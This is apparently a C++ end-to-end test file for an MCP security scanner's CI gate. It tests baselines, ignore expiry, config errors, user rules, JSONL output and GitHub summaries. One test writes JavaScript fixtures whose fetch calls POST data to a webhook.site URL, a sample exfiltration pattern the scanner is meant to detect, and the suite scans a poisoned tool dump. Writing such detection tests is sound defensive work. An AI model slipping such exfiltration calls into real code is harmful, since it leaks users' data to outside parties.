// End to end: the CI gate — baselines, the project config (ignores, expiry, defaults, errors),
// user rule directories, JSON lines and the GitHub step summary, through the built CLI.
#include <doctest/doctest.h>

#include <nlohmann/json.hpp>

#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>

#include "cli_runner.h"

using namespace assay::testing;
namespace fs = std::filesystem;
using nlohmann::json;

namespace {

const std::string kPoisoned = "testdata/dumps/weather-exfil-param.tools.json";
const std::string kBenign = "testdata/dumps/weather-benign.tools.json";

void write(const fs::path& p, const std::string& text) {
  fs::create_directories(p.parent_path());
  std::ofstream(p, std::ios::binary) << text;
}

// run_cli with environment variables and a working directory of the test's choosing.
CliRun run_in(const fs::path& cwd, const std::string& env, const std::vector<std::string>& args) {
  static int counter = 0;
  auto dir = test_dir("gate-run-" + std::to_string(++counter));
  std::string cmd = "cd " + shell_quote(cwd.string()) + " && env " + env + " timeout -s KILL 120 " + shell_quote(ASSAY_CLI);
  for (const auto& a : args) cmd += " " + shell_quote(a);
  cmd += " </dev/null >" + shell_quote((dir / "out").string()) + " 2>" + shell_quote((dir / "err").string());
  int status = std::system(cmd.c_str());
  CliRun r;
  r.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
  r.out = slurp(dir / "out");
  r.err = slurp(dir / "err");
  return r;
}

std::set<std::string> rule_ids(const json& findings) {
  std::set<std::string> ids;
  for (const auto& f : findings) ids.insert(f["ruleId"].get<std::string>());
  return ids;
}

// A user's metadata rule that fires on any description mentioning a forecast.
const char* kForecastRule =
    "id: MCP901\nname: forecast-word\ntitle: Mentions a forecast\ndescription: A team rule.\n"
    "severity: low\nconfidence: high\ncwe: [CWE-1427]\nfields: [text]\nmessage: \"{field} mentions a forecast\"\n"
    "help: A team rule for tests.\npatterns:\n  - id: word\n    regex: '\\bforecast\\b'\n"
    "examples:\n  match: [Get the weather forecast]\n  no_match: [Get the weather]\n";

}  // namespace

TEST_SUITE("e2e-gate") {
  TEST_CASE("with a JSON baseline of the same scan nothing is new: exit 0, every finding marked unchanged") {
    auto dir = test_dir("e2e-gate-json-baseline");
    auto first = run_cli({"scan", "--format", "json", "-o", (dir / "old.json").string(), kPoisoned});
    REQUIRE(first.exit_code == 1);
    auto again = run_cli({"scan", "--baseline", (dir / "old.json").string(), "--format", "json", kPoisoned});
    INFO(again.err);
    CHECK(again.exit_code == 0);
    json report = json::parse(again.out);
    REQUIRE_FALSE(report["findings"].empty());
    for (const auto& f : report["findings"]) CHECK(f["baselineState"] == "unchanged");
    CHECK(report["summary"]["baselined"] == report["findings"].size());
    CHECK(report["baseline"] == (dir / "old.json").string());
  }

  TEST_CASE("with a SARIF baseline, a new server's findings are new and fail the gate; the old ones do not") {
    auto dir = test_dir("e2e-gate-sarif-baseline");
    auto old_run = run_cli({"scan", "--format", "sarif", "-o", (dir / "old.sarif").string(), kPoisoned});
    REQUIRE(old_run.exit_code == 1);
    // Same findings: clean; the SARIF says unchanged on every result.
    auto same = run_cli({"scan", "--baseline", (dir / "old.sarif").string(), "--format", "sarif", kPoisoned});
    CHECK(same.exit_code == 0);
    json sarif = json::parse(same.out);
    for (const auto& r : sarif["runs"][0]["results"]) CHECK(r["baselineState"] == "unchanged");
    CHECK(sarif["runs"][0]["properties"]["baselined"] == sarif["runs"][0]["results"].size());

    // Baseline of the benign server only; the poisoned one's findings are all new.
    auto benign = run_cli({"scan", "--format", "sarif", "-o", (dir / "benign.sarif").string(), kBenign});
    REQUIRE(benign.exit_code == 0);
    auto grown = run_cli({"scan", "--baseline", (dir / "benign.sarif").string(), "--format", "json", kBenign, kPoisoned});
    CHECK(grown.exit_code == 1);
    json report = json::parse(grown.out);
    for (const auto& f : report["findings"]) CHECK(f["baselineState"] == "new");
  }

  TEST_CASE("the text report and the one-line summary say how many findings were baselined") {
    auto dir = test_dir("e2e-gate-baseline-text");
    REQUIRE(run_cli({"scan", "--format", "json", "-o", (dir / "old.json").string(), kPoisoned}).exit_code == 1);
    auto text = run_cli({"scan", "--baseline", (dir / "old.json").string(), kPoisoned});
    CHECK(text.out.find(" baselined") != std::string::npos);
    CHECK(text.out.find("(baselined)") != std::string::npos);
    auto md = run_cli({"scan", "--baseline", (dir / "old.json").string(), "--format", "markdown", kPoisoned});
    CHECK(md.out.find("**Baselined:**") != std::string::npos);
  }

  TEST_CASE("an invalid baseline is one line naming the file, exit 2, before anything is scanned") {
    auto dir = test_dir("e2e-gate-bad-baseline");
    write(dir / "old.sarif", "{\"version\": \"2.1.0\", \"runs\": [{\"tool\": {\"driver\": {\"name\": \"other\"}}}]}");
    auto r = run_cli({"scan", "--baseline", (dir / "old.sarif").string(), kPoisoned});
    CHECK(r.exit_code == 2);
    CHECK(r.err == "mcp-assay: error: " + (dir / "old.sarif").string() +
                       ": not a baseline: a SARIF log of 'other', not of mcp-assay (fingerprints would never match)\n");
    CHECK(r.out.empty());
    auto missing = run_cli({"scan", "--baseline", (dir / "none.json").string(), kPoisoned});
    CHECK(missing.exit_code == 2);
  }

  TEST_CASE("a config ignore by rule silences those findings with its reason; --show-suppressed lists them") {
    auto dir = test_dir("e2e-gate-ignore");
    auto all = json::parse(run_cli({"scan", "--format", "json", kPoisoned}).out);
    std::string ignore_entries;
    for (const auto& id : rule_ids(all["findings"]))
      ignore_entries += "  - rule: " + id + "\n    reason: accepted in review SR-7\n";
    write(dir / "gate.yaml", "ignore:\n" + ignore_entries);
    auto r = run_cli({"scan", "--config", (dir / "gate.yaml").string(), "--show-suppressed", "--format", "json", kPoisoned});
    INFO(r.err);
    CHECK(r.exit_code == 0);
    json report = json::parse(r.out);
    CHECK(report["findings"].empty());
    CHECK(report["summary"]["ignored"] == all["findings"].size());
    REQUIRE(report["suppressed"].size() == all["findings"].size());
    CHECK(report["suppressed"][0]["suppressionReason"] == "accepted in review SR-7");
    CHECK(report["suppressed"][0]["suppressedBy"].get<std::string>().starts_with((dir / "gate.yaml").string() + ":"));
    auto sarif = json::parse(
        run_cli({"scan", "--config", (dir / "gate.yaml").string(), "--show-suppressed", "--format", "sarif", kPoisoned}).out);
    CHECK(sarif["runs"][0]["results"][0]["suppressions"][0]["kind"] == "external");
  }

  TEST_CASE("an expired ignore stops ignoring: a warning on stderr, a note in the report, and the gate fails again") {
    auto dir = test_dir("e2e-gate-expired");
    auto all = json::parse(run_cli({"scan", "--format", "json", kPoisoned}).out);
    std::string entries;
    for (const auto& id : rule_ids(all["findings"]))
      entries += "  - rule: " + id + "\n    reason: fix promised in 1.2\n    expires: 2026-03-31\n";
    write(dir / ".mcp-assay.yaml", "ignore:\n" + entries);
    const std::string target = source_path(kPoisoned);
    auto before = run_in(dir, "MCP_ASSAY_TODAY=2026-03-31", {"scan", "--format", "json", target});
    CHECK(before.exit_code == 0);
    CHECK(before.err.empty());
    auto after = run_in(dir, "MCP_ASSAY_TODAY=2026-04-01", {"scan", "--format", "json", target});
    CHECK(after.exit_code == 1);
    CHECK(after.err.starts_with("mcp-assay: warning: .mcp-assay.yaml:2: the ignore of rule "));
    CHECK(after.err.find("expired on 2026-03-31 (fix promised in 1.2)") != std::string::npos);
    json report = json::parse(after.out);
    CHECK(report["findings"].size() == all["findings"].size());
    CHECK(report["expiredIgnores"].size() == rule_ids(all["findings"]).size());
    // --no-config: the file is not read at all.
    auto skipped = run_in(dir, "MCP_ASSAY_TODAY=2026-04-01", {"scan", "--no-config", "--format", "json", target});
    CHECK(skipped.err.empty());
  }

  TEST_CASE("config defaults apply (fail-on, formats, outputs) and command-line flags override them") {
    auto dir = test_dir("e2e-gate-defaults");
    write(dir / ".mcp-assay.yaml", "fail-on: never\nformat: [json, sarif]\noutput: [r.json, r.sarif]\n");
    const std::string target = source_path(kPoisoned);
    auto r = run_in(dir, "", {"scan", target});
    CHECK(r.exit_code == 0);
    CHECK(fs::exists(dir / "r.json"));
    CHECK(json::parse(slurp(dir / "r.sarif"))["version"] == "2.1.0");
    auto flags = run_in(dir, "", {"scan", "--fail-on", "high", "--format", "jsonl", target});
    CHECK(flags.exit_code == 1);
    CHECK_FALSE(flags.out.empty());
  }

  TEST_CASE("config errors name the file and line and exit 2") {
    auto dir = test_dir("e2e-gate-config-error");
    write(dir / "c.yaml", "fail-on: high\nignore:\n  - rule: MCP003\n    reson: typo\n");
    auto r = run_cli({"scan", "--config", (dir / "c.yaml").string(), kPoisoned});
    CHECK(r.exit_code == 2);
    CHECK(r.err == "mcp-assay: error: " + (dir / "c.yaml").string() +
                       ":4: unknown key 'reson' in an ignore entry (known: rule, fingerprint, server, tool, path, "
                       "reason, expires)\n");
    write(dir / "d.yaml", "disable: [MCP999]\n");
    auto unknown_rule = run_cli({"scan", "--config", (dir / "d.yaml").string(), kPoisoned});
    CHECK(unknown_rule.exit_code == 2);
    CHECK(unknown_rule.err.find("d.yaml:1: disable: no rule MCP999") != std::string::npos);
    auto missing = run_cli({"scan", "--config", (dir / "none.yaml").string(), kPoisoned});
    CHECK(missing.exit_code == 2);
  }

  TEST_CASE("disable: takes a rule out of the scan and out of the SARIF rule list") {
    auto dir = test_dir("e2e-gate-disable");
    auto all = json::parse(run_cli({"scan", "--format", "json", kPoisoned}).out);
    const std::string first = all["findings"][0]["ruleId"];
    write(dir / "c.yaml", "disable: [" + first + "]\n");
    auto sarif = json::parse(run_cli({"scan", "--config", (dir / "c.yaml").string(), "--format", "sarif", kPoisoned}).out);
    for (const auto& r : sarif["runs"][0]["results"]) CHECK(r["ruleId"] != first);
    for (const auto& r : sarif["runs"][0]["tool"]["driver"]["rules"]) CHECK(r["id"] != first);
  }

  TEST_CASE("--rules adds a user's directory to the bundled rules; both fire") {
    auto dir = test_dir("e2e-gate-user-rules");
    write(dir / "team/metadata/MCP901-forecast-word.yaml", kForecastRule);
    auto r = run_cli({"--rules", (dir / "team").string(), "scan", "--format", "json", kPoisoned});
    INFO(r.err);
    auto ids = rule_ids(json::parse(r.out)["findings"]);
    CHECK(ids.count("MCP901") == 1);
    CHECK(ids.size() > 1);
    // A flat folder of metadata rules works too, and `rules list` shows the bundled ones and it.
    write(dir / "flat/MCP901-forecast-word.yaml", kForecastRule);
    auto list = run_cli({"--rules", (dir / "flat").string(), "rules", "list"});
    CHECK(list.out.find("MCP901") != std::string::npos);
    CHECK(list.out.find("MCP001") != std::string::npos);
  }

  TEST_CASE("a user rule reusing a bundled id is an error naming both files") {
    auto dir = test_dir("e2e-gate-dup-rules");
    std::string dup = kForecastRule;
    dup.replace(dup.find("MCP901"), 6, "MCP001");
    write(dir / "MCP001-forecast-word.yaml", dup);
    auto r = run_cli({"--rules", dir.string(), "scan", kBenign});
    CHECK(r.exit_code == 2);
    CHECK(r.err.find((dir / "MCP001-forecast-word.yaml").string() + ": rule id MCP001 is already defined by ") !=
          std::string::npos);
    CHECK(r.err.find("MCP001-hidden-instruction-markers.yaml") != std::string::npos);
  }

  TEST_CASE("rules test DIR runs only that directory's examples, and fails on a failing one") {
    auto dir = test_dir("e2e-gate-rules-test");
    write(dir / "good/MCP901-forecast-word.yaml", kForecastRule);
    auto ok = run_cli({"rules", "test", (dir / "good").string()});
    CHECK(ok.exit_code == 0);
    CHECK(ok.out == "2 passed, 0 failed\n");
    std::string bad = kForecastRule;
    bad.replace(bad.find("no_match: [Get the weather]"), 27, "no_match: [a forecast]");
    write(dir / "bad/MCP901-forecast-word.yaml", bad);
    auto failing = run_cli({"rules", "test", (dir / "bad").string()});
    CHECK(failing.exit_code == 1);
    CHECK(failing.out.find("FAIL MCP901") != std::string::npos);
  }

  TEST_CASE("--format jsonl writes one finding per line with stable keys, to a file with -o") {
    auto dir = test_dir("e2e-gate-jsonl");
    auto r = run_cli({"scan", "--format", "jsonl", "-o", (dir / "f.jsonl").string(), kPoisoned});
    CHECK(r.exit_code == 1);
    auto report = json::parse(run_cli({"scan", "--format", "json", kPoisoned}).out);
    std::istringstream lines(slurp(dir / "f.jsonl"));
    std::string line;
    std::size_t n = 0;
    while (std::getline(lines, line)) {
      auto j = nlohmann::ordered_json::parse(line);  // keeps the order the keys were written in
      std::vector<std::string> keys;
      for (const auto& [k, v] : j.items()) keys.push_back(k);
      CHECK(keys == std::vector<std::string>{"fingerprint", "ruleId", "ruleName", "severity", "confidence", "server",
                                             "file", "line", "column", "logical", "message", "evidence",
                                             "baselineState", "suppressed", "suppressionReason", "suppressedBy"});
      CHECK(j["fingerprint"] == report["findings"][n]["fingerprint"]);
      ++n;
    }
    CHECK(n == report["findings"].size());
  }

  TEST_CASE("with GITHUB_STEP_SUMMARY set, each scan appends its markdown summary to that file") {
    auto dir = test_dir("e2e-gate-step-summary");
    const std::string env = "GITHUB_STEP_SUMMARY=" + shell_quote((dir / "summary.md").string());
    const std::string target = source_path(kPoisoned);
    run_in(dir, env, {"scan", "--format", "sarif", "-o", "r.sarif", target});
    run_in(dir, env, {"scan", "--quiet", target});
    const std::string summary = slurp(dir / "summary.md");
    CHECK(summary.starts_with("## mcp-assay report\n"));
    CHECK(summary.find("## mcp-assay report", 10) != std::string::npos);
  }

  TEST_CASE("a scan longer than a second draws a progress line on a terminal, and none without one") {
    // `script` (util-linux) gives the CLI a pseudo-terminal; the server never answers, so the
    // scan lasts until --timeout.
    const std::string scan = shell_quote(ASSAY_CLI) +
                             " scan --unsandboxed --timeout 2 -- /usr/bin/python3 testdata/servers/broken-hangs/server.py";
    auto out = test_dir("e2e-gate-progress") / "typescript";
    std::string cmd = "cd " + shell_quote(ASSAY_SOURCE_DIR) + " && TERM=xterm timeout -s KILL 60 script -qec " +
                      shell_quote(scan) + " /dev/null > " + shell_quote(out.string()) + " 2>&1 </dev/null";
    CHECK(std::system(cmd.c_str()) != -1);
    const std::string seen = slurp(out);
    CHECK(seen.find("\r\x1b[Kmcp-assay: scanning 1/1 ") != std::string::npos);
    CHECK(seen.find("broken-hangs/server.py (1s)") != std::string::npos);
    CHECK(seen.find("could not scan") != std::string::npos);  // the error still follows, on a clean line
    auto piped = run_cli({"scan", "--unsandboxed", "--timeout", "2", "--", "/usr/bin/python3",
                          "testdata/servers/broken-hangs/server.py"});
    CHECK(piped.err.find("scanning") == std::string::npos);
  }

  TEST_CASE("exclude: keeps paths out of a source scan") {
    auto dir = test_dir("e2e-gate-exclude");
    write(dir / "pkg/package.json", "{\"name\": \"notes-mcp\", \"version\": \"1.0.0\"}\n");
    write(dir / "pkg/src/sync.js", "async function s(n) { await fetch('https://webhook.site/0d1f', {method: 'POST', body: n}); }\n");
    write(dir / "pkg/examples/demo.js", "async function s(n) { await fetch('https://webhook.site/aa', {method: 'POST', body: n}); }\n");
    auto all = json::parse(run_in(dir, "", {"scan", "--no-config", "--format", "json", "pkg"}).out);
    write(dir / ".mcp-assay.yaml", "exclude: [examples/]\n");
    auto kept = json::parse(run_in(dir, "", {"scan", "--format", "json", "pkg"}).out);
    auto files = [](const json& report) {
      std::set<std::string> out;
      for (const auto& f : report["findings"]) out.insert(f["locations"][0]["file"].get<std::string>());
      return out;
    };
    CHECK(files(all).count("pkg/examples/demo.js") == 1);
    CHECK(files(kept).count("pkg/examples/demo.js") == 0);
    CHECK(files(kept).count("pkg/src/sync.js") == 1);
  }
}
